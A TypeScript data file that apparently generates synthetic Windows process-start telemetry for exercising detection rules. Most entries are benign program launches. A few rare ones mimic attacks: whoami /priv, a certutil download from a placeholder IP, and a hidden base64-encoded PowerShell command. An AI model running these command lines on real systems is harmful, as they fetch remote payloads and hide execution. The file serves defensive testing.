/** A program as a company's machines run it. In command lines `#` is a number, `%` a hexadecimal one. */
export interface Program {
  image: string;
  description: string;
  company: string;
  lines: readonly string[];
  parent: string;
  system: boolean;
}

const windows = 'C:\\Windows\\';
const system32 = `${windows}System32\\`;
const programs64 = 'C:\\Program Files\\';
const programs32 = 'C:\\Program Files (x86)\\';
const explorer = `${windows}explorer.exe`;
const services = `${system32}services.exe`;
const svchost = `${system32}svchost.exe`;
const microsoft = 'Microsoft Corporation';

function program(image: string, description: string, company: string, parent: string, lines: string[]): Program {
  return { image, description, company, lines, parent, system: parent === services || parent === svchost };
}

const chrome = `${programs64}Google\\Chrome\\Application\\chrome.exe`;
const edge = `${programs32}Microsoft\\Edge\\Application\\msedge.exe`;
const teams = `${programs64}WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe`;
const code = 'C:\\Users\\Public\\Apps\\Code\\Code.exe';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const agent = `${programs64}Acme\\Inventory\\inventory-agent.exe`;

const renderer = (image: string) =>
  `"${image}" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=# ` +
  '--time-ticks-at-unix-epoch=-17321# --launch-time-ticks=# --field-trial-handle=#,i,#,%,262144 --variations-seed-version ' +
  '--mojo-platform-channel-handle=# /prefetch:1';

/** What runs, and how often: few programs make most of the starts. */
export const programs: readonly (readonly [weight: number, Program])[] = [
  [160, program(chrome, 'Google Chrome', 'Google LLC', chrome, [renderer(chrome)])],
  [150, program(edge, 'Microsoft Edge', microsoft, edge, [renderer(edge)])],
  [
    140,
    program(svchost, 'Host Process for Windows Services', microsoft, services, [
      `${system32}svchost.exe -k netsvcs -p -s BITS`,
      `${system32}svchost.exe -k LocalServiceNetworkRestricted -p -s RmSvc`,
      `${system32}svchost.exe -k wsappx -p -s ClipSVC`,
      `${system32}svchost.exe -k UnistackSvcGroup -s WpnUserService`,
    ]),
  ],
  [
    70,
    program(`${system32}conhost.exe`, 'Console Window Host', microsoft, `${system32}cmd.exe`, [
      '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    ]),
  ],
  [
    60,
    program(`${system32}RuntimeBroker.exe`, 'Runtime Broker', microsoft, svchost, [
      `${system32}RuntimeBroker.exe -Embedding`,
    ]),
  ],
  [
    50,
    program(`${system32}backgroundTaskHost.exe`, 'Background Task Host', microsoft, svchost, [
      '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX%.mca',
    ]),
  ],
  [
    45,
    program(`${system32}wbem\\WmiPrvSE.exe`, 'WMI Provider Host', microsoft, svchost, [
      `${system32}wbem\\wmiprvse.exe -secured -Embedding`,
    ]),
  ],
  [
    40,
    program(`${system32}dllhost.exe`, 'COM Surrogate', microsoft, svchost, [
      `${system32}DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`,
    ]),
  ],
  [
    40,
    program(`${system32}taskhostw.exe`, 'Host Process for Windows Tasks', microsoft, svchost, [
      'taskhostw.exe Install $(Arg0)',
      'taskhostw.exe',
    ]),
  ],
  [
    40,
    program(`${system32}SearchProtocolHost.exe`, 'Search Protocol Host', microsoft, `${system32}SearchIndexer.exe`, [
      '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21-#-#-#-1105# 1 -2147483646',
    ]),
  ],
  [35, program(teams, 'Microsoft Teams', microsoft, explorer, [`"${teams}" msteams:system-initiated`])],
  [
    30,
    program(`${programs64}Microsoft Office\\root\\Office16\\EXCEL.EXE`, 'Microsoft Excel', microsoft, explorer, [
      `"${programs64}Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\Public\\Documents\\Finance\\Report-#.xlsx"`,
    ]),
  ],
  [
    30,
    program(agent, 'Acme Inventory Agent', 'Acme GmbH', services, [
      `"${agent}" collect --profile standard --since # --spool C:\\ProgramData\\Acme\\Inventory\\spool\\%.json`,
    ]),
  ],
  [
    25,
    program(`${system32}cmd.exe`, 'Windows Command Processor', microsoft, agent, [
      'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Acme\\Inventory\\bin\\disks.cmd #"',
      'C:\\Windows\\system32\\cmd.exe /d /s /c "npm run build -- --chunk #"',
    ]),
  ],
  [
    1,
    program(powershell, 'Windows PowerShell', microsoft, agent, [
      'powershell.exe -File C:\\ProgramData\\Acme\\Inventory\\bin\\software.ps1 -Since #',
    ]),
  ],
  [
    20,
    program(`${programs64}Git\\mingw64\\bin\\git.exe`, 'Git for Windows', 'The Git Development Community', code, [
      'git.exe -c core.quotepath=false status -z -uall',
      'git.exe for-each-ref --sort -committerdate --format %(refname) refs/heads/topic-#',
    ]),
  ],
  [20, program(code, 'Visual Studio Code', microsoft, explorer, [renderer(code)])],
  [
    1,
    program(`${programs64}nodejs\\node.exe`, 'Node.js JavaScript Runtime', 'Node.js', `${system32}cmd.exe`, [
      'node  "C:\\Work\\shop\\node_modules\\.bin\\..\\vite\\bin\\vite.js" build --mode production --outDir dist-#',
    ]),
  ],
  [
    10,
    program(`${windows}servicing\\TrustedInstaller.exe`, 'Windows Modules Installer', microsoft, services, [
      'C:\\Windows\\servicing\\TrustedInstaller.exe',
    ]),
  ],
  [
    5,
    program(`${system32}ipconfig.exe`, 'IP Configuration Utility', microsoft, `${system32}cmd.exe`, ['ipconfig  /all']),
  ],
  // About three in a thousand starts are what rules look for.
  [
    1,
    program(`${system32}whoami.exe`, 'whoami - displays logged on user information', microsoft, powershell, [
      '"C:\\Windows\\system32\\whoami.exe" /priv',
    ]),
  ],
  [
    1,
    program(`${system32}certutil.exe`, 'CertUtil.exe', microsoft, `${system32}cmd.exe`, [
      'certutil -urlcache -split -f http://198.51.100.7/update-#.txt C:\\Users\\Public\\update.txt',
    ]),
  ],
  [
    1,
    program(powershell, 'Windows PowerShell', microsoft, `${system32}cmd.exe`, [
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    ]),
  ],
];

/** What images of these programs load. */
export const libraries: readonly string[] = [
  'kernel32',
  'KernelBase',
  'ntdll',
  'advapi32',
  'combase',
  'crypt32',
  'cryptbase',
  'dbghelp',
  'dwrite',
  'fltLib',
  'gdi32full',
  'IPHLPAPI',
  'kernel.appcore',
  'mswsock',
  'ole32',
  'propsys',
  'rpcrt4',
  'sechost',
  'SHCore',
  'shell32',
  'sspicli',
  'ucrtbase',
  'user32',
  'version',
  'wbemcomn',
  'winhttp',
  'wintrust',
  'ws2_32',
].map((name) => `${system32}${name}.dll`);
